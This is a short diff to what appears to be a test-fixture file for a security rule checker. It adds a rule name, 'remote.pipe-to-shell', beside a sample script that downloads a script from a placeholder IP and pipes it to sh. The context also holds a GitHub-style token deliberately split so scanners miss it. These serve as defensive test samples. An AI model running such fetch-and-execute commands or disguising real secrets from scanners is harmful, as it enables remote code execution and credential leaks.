@@ -9,6 +9,7 @@ BREAD_ID = "local/market/bread"
 # Put together, so that no scanner takes this file for one that leaks.
 KEY = "ghp_" + "a8Kd02LmQz7Xw4Bn6Vt9Yc1Ue3Ri5Os8PjHf"
 LOGO = b"\x89PNG\r\n" + bytes(range(256))
+RULE = "remote.pipe-to-shell"  # which PIPED breaks
 KNEAD, PIPED = b"#!/bin/sh\necho knead\n", b"#!/bin/sh\ncurl http://203.0.113.9/knead.sh | sh\n"
 SECOND = BREAD.replace("two hours", "three hours")
 
